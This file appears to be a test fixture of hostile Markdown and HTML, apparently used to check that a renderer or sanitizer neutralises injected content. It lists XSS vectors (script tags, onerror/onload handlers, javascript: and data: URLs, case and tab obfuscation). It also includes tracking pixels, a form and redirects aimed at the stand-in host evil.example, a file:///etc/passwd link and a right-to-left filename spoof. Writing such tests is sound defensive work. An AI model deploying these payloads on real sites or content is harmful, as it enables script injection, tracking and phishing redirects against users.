/** Text that would like to be more than text. Each would set `window.__pwned` or ask `evil.example`. */

const EVIL = "https://evil.example";

export const HOSTILE_MARKDOWN = `
A picture: ![tracker](${EVIL}/pixel.png "t") and ![inline](data:image/svg+xml,<svg onload=alert(1)>)

<img src="x" onerror="window.__pwned=1">
<img src="${EVIL}/img.png">
<script>window.__pwned=1</script>
<script src="${EVIL}/a.js"></script>
<style>@import url("${EVIL}/a.css"); body { display: none }</style>
<link rel="stylesheet" href="${EVIL}/b.css">
<iframe src="${EVIL}/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<object data="${EVIL}/o"></object><embed src="${EVIL}/e">
<form action="${EVIL}/post"><input name="a"><button>go</button></form>
<svg onload="window.__pwned=1"><a xlink:href="javascript:window.__pwned=1"><text>x</text></a></svg>
<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/">
<video src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>
<div style="position:fixed;inset:0;background:url(${EVIL}/bg.png)" onclick="window.__pwned=1">cover</div>

Links: [script](javascript:window.__pwned=1), [case](JaVaScRiPt:window.__pwned=1),
[tab](java&#9;script:window.__pwned=1), [page](data:text/html,<script>window.__pwned=1</script>),
[vb](vbscript:window.__pwned=1), [file](file:///etc/passwd), <javascript:window.__pwned=1>,
[reference][evil], [outside](${EVIL}/page).

[evil]: javascript:window.__pwned=1

\`\`\`html
<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>
\`\`\`

| a | b |
| --- | --- |
| <img src=x onerror=window.__pwned=1> | ![c](${EVIL}/cell.png) |

\u202Etxt.exe\u202C and a footnote[^1]

[^1]: <img src="${EVIL}/foot.png" onerror="window.__pwned=1">

The end.
`;

/** For a field of a tool's result. */
export const HOSTILE = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script><a href="javascript:window.__pwned=1">a</a>![p](${EVIL}/pixel.png)`;

export const EVIL_HOST = "evil.example";
